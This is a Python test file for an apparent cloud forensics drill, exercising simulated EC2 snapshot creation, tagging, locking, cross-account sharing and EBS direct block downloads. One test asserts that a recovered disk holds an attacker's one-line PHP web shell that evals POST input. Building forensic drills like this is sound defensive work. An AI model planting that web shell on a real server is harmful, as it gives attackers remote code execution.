"""Snapshots, and their blocks by EBS direct."""

from __future__ import annotations

import base64
import hashlib
import time
from typing import Any

import pytest

from forensics.drill import Drill
from tests.drill.conftest import Clients, Refused
from tests.drill.ext2_reader import Ext2

BLOCK = 524_288


def _snapshot(ec2: Any, web: str, **how: Any) -> list[dict[str, Any]]:
    made: list[dict[str, Any]] = ec2.create_snapshots(InstanceSpecification={"InstanceId": web}, **how)[
        "Snapshots"
    ]
    return made


def _state(ec2: Any, id_: str) -> tuple[str, str]:
    one = ec2.describe_snapshots(SnapshotIds=[id_])["Snapshots"][0]
    return one["State"], one["Progress"]


def test_tags_of_call_and_volume(client: Clients, web: str) -> None:
    """Both disks are taken in one call, with the volume's tags and the call's, and found by either."""
    ec2 = client("ec2")
    given = [{"ResourceType": "snapshot", "Tags": [{"Key": "forensics:op", "Value": "tags-1"}]}]
    made = _snapshot(ec2, web, CopyTagsFromSource="volume", TagSpecifications=given, Description="d")
    assert [one["State"] for one in made] == ["pending", "pending"]
    assert [one["VolumeSize"] for one in made] == [8, 4]
    names = [{tag["Key"]: tag["Value"] for tag in one["Tags"]}["Name"] for one in made]
    assert names == ["web-1 /dev/sda1", "web-1 /dev/sdb"]
    found = ec2.describe_snapshots(
        OwnerIds=["self"], Filters=[{"Name": "tag:forensics:op", "Values": ["tags-1"]}]
    )["Snapshots"]
    assert {one["SnapshotId"] for one in found} == {one["SnapshotId"] for one in made}
    tags = ec2.describe_tags(Filters=[{"Name": "resource-id", "Values": [made[0]["SnapshotId"]]}])["Tags"]
    assert {tag["Key"] for tag in tags} == {"Name", "forensics:op"}


def test_boot_volume_can_be_left_out(client: Clients, web: str) -> None:
    """ExcludeBootVolume leaves the data disk alone in the call."""
    made = client("ec2").create_snapshots(
        InstanceSpecification={"InstanceId": web, "ExcludeBootVolume": True}
    )
    assert [one["VolumeSize"] for one in made["Snapshots"]] == [4]


def test_pending_by_polls(drill: Drill, client: Clients, web: str) -> None:
    """A snapshot is pending for as many descriptions as were set, and its progress grows."""
    drill.waiting(polls=3)
    ec2 = client("ec2")
    id_ = _snapshot(ec2, web)[0]["SnapshotId"]
    assert [_state(ec2, id_) for _ in range(4)] == [
        ("pending", "33%"),
        ("pending", "66%"),
        ("pending", "99%"),
        ("completed", "100%"),
    ]


def test_pending_by_time(drill: Drill, client: Clients, web: str) -> None:
    """A snapshot is pending until its seconds are over."""
    drill.waiting(seconds=2)
    ec2 = client("ec2")
    id_ = _snapshot(ec2, web)[0]["SnapshotId"]
    assert _state(ec2, id_)[0] == "pending"
    time.sleep(2)
    assert _state(ec2, id_) == ("completed", "100%")


def test_stuck_and_failing(drill: Drill, client: Clients, web: str) -> None:
    """A snapshot may never complete, or end in error."""
    ec2 = client("ec2")
    drill.waiting(seconds=0, stuck=True)
    id_ = _snapshot(ec2, web)[0]["SnapshotId"]
    assert _state(ec2, id_)[0] == "pending"
    drill.waiting(seconds=0, fails=True)
    assert _state(ec2, id_)[0] == "error"


def test_dry_run(client: Clients, refused: Refused, web: str) -> None:
    """A dry run makes nothing, and says that it would have."""
    ec2 = client("ec2")
    before = len(ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"])
    arguments = {"InstanceSpecification": {"InstanceId": web}, "DryRun": True}
    assert refused(ec2.create_snapshots, **arguments)[:2] == ("DryRunOperation", 412)
    assert len(ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"]) == before


@pytest.mark.parametrize(
    ("method", "arguments", "code"),
    [
        ("create_snapshot", {"VolumeId": "vol-0123456789abcdef0"}, "InvalidVolume.NotFound"),
        (
            "create_snapshots",
            {"InstanceSpecification": {"InstanceId": "i-0123456789abcdef0"}},
            "InvalidInstanceID.NotFound",
        ),
        ("describe_snapshots", {"SnapshotIds": ["snap-0123456789abcdef0"]}, "InvalidSnapshot.NotFound"),
        (
            "describe_snapshot_attribute",
            {"SnapshotId": "snap-0", "Attribute": "productCodes"},
            "InvalidSnapshot.NotFound",
        ),
        (
            "create_tags",
            {"Resources": ["snap-0123456789abcdef0"], "Tags": [{"Key": "a", "Value": "b"}]},
            "InvalidSnapshot.NotFound",
        ),
        ("describe_snapshots", {"NextToken": "made-up"}, "InvalidNextToken"),
        (
            "describe_instance_attribute",
            {"InstanceId": "i-0", "Attribute": "userData"},
            "InvalidInstanceID.NotFound",
        ),
        ("get_console_output", {"InstanceId": "i-0"}, "InvalidInstanceID.NotFound"),
    ],
)
def test_not_found(
    client: Clients, refused: Refused, method: str, arguments: dict[str, Any], code: str
) -> None:
    """What is not there is refused in EC2's code for it."""
    assert refused(getattr(client("ec2"), method), **arguments)[:2] == (code, 400)


def test_strangers_public_snapshots_are_listed_without_an_owner(client: Clients) -> None:
    """Without OwnerIds everyone's public snapshots come too, as in AWS."""
    ec2 = client("ec2")
    owners = {one["OwnerId"] for one in ec2.describe_snapshots()["Snapshots"]}
    mine = {one["OwnerId"] for one in ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"]}
    assert (owners, mine) == ({"222222222222", "333333333333"}, {"222222222222"})


def test_shared_with_a_foreign_account(client: Clients) -> None:
    """The snapshot that the attacker shared says with whom."""
    ec2 = client("ec2")
    shared = ec2.describe_snapshots(OwnerIds=["self"], Filters=[{"Name": "description", "Values": ["x"]}])
    id_ = shared["Snapshots"][0]["SnapshotId"]
    answer = ec2.describe_snapshot_attribute(SnapshotId=id_, Attribute="createVolumePermission")
    assert answer["CreateVolumePermissions"] == [{"UserId": "777777777777"}]


def test_lock_holds(client: Clients, root: Clients, refused: Refused, web: str) -> None:
    """A locked snapshot is listed as such and cannot be deleted."""
    ec2 = client("ec2")
    id_ = _snapshot(ec2, web)[0]["SnapshotId"]
    ec2.lock_snapshot(SnapshotId=id_, LockMode="governance", LockDuration=30)
    locked = ec2.describe_locked_snapshots(SnapshotIds=[id_])["Snapshots"]
    assert [(one["LockState"], one["LockDuration"]) for one in locked] == [("governance", 30)]
    assert refused(root("ec2").delete_snapshot, SnapshotId=id_)[0] == "SnapshotLocked"


def _download(ebs: Any, id_: str) -> bytes:
    """Read a disk as far as anything is written on it."""
    listed = ebs.list_snapshot_blocks(SnapshotId=id_)
    assert listed["BlockSize"] == BLOCK
    image = bytearray(16 * 2**20)
    for block in listed["Blocks"]:
        index = block["BlockIndex"]
        got = ebs.get_snapshot_block(SnapshotId=id_, BlockIndex=index, BlockToken=block["BlockToken"])
        data = got["BlockData"].read()
        assert len(data) == BLOCK == got["DataLength"]
        assert base64.b64encode(hashlib.sha256(data).digest()).decode() == got["Checksum"]
        image[index * BLOCK : (index + 1) * BLOCK] = data
    return bytes(image)


def test_blocks_are_the_disk(drill: Drill, client: Clients, web: str) -> None:
    """The data disk, read block by block, is a file system with the attacker's file in it."""
    drill.waiting(seconds=0)
    ids = [one["SnapshotId"] for one in _snapshot(client("ec2"), web)]
    disk = Ext2(_download(client("ebs"), ids[1]))
    assert disk.read("/upload/shell.php") == b"<?php @eval($_POST['c']); ?>\n"


def test_blocks_are_of_the_moment(drill: Drill, client: Clients, web: str) -> None:
    """Two snapshots of a disk that nobody wrote to in between differ in no block."""
    drill.waiting(seconds=0)
    ec2, ebs = client("ec2"), client("ebs")
    first, second = (_snapshot(ec2, web)[0]["SnapshotId"] for _ in range(2))
    changed = ebs.list_changed_blocks(FirstSnapshotId=first, SecondSnapshotId=second)
    assert changed["ChangedBlocks"] == []
    whole = ebs.list_changed_blocks(SecondSnapshotId=second)["ChangedBlocks"]
    assert next(one["BlockIndex"] for one in whole) == 0


def test_blocks_only_with_their_own_token(drill: Drill, client: Clients, refused: Refused, web: str) -> None:
    """A token opens its own block of its own snapshot, and nothing else."""
    drill.waiting(seconds=0)
    ebs = client("ebs")
    first, second = (_snapshot(client("ec2"), web)[0]["SnapshotId"] for _ in range(2))
    blocks = ebs.list_snapshot_blocks(SnapshotId=first)["Blocks"]
    wrong = (
        (second, 0, blocks[0]["BlockToken"]),
        (first, blocks[1]["BlockIndex"], blocks[0]["BlockToken"]),
        (first, 0, "bm90IGEgdG9rZW4="),
    )
    for id_, index, token in wrong:
        arguments = {"SnapshotId": id_, "BlockIndex": index, "BlockToken": token}
        assert refused(ebs.get_snapshot_block, **arguments)[0] == "ValidationException"


def test_blocks_of_a_pending_snapshot(drill: Drill, client: Clients, refused: Refused, web: str) -> None:
    """A pending snapshot's blocks cannot be had yet."""
    drill.waiting(seconds=60)
    id_ = _snapshot(client("ec2"), web)[0]["SnapshotId"]
    assert refused(client("ebs").list_snapshot_blocks, SnapshotId=id_)[0] == "ValidationException"
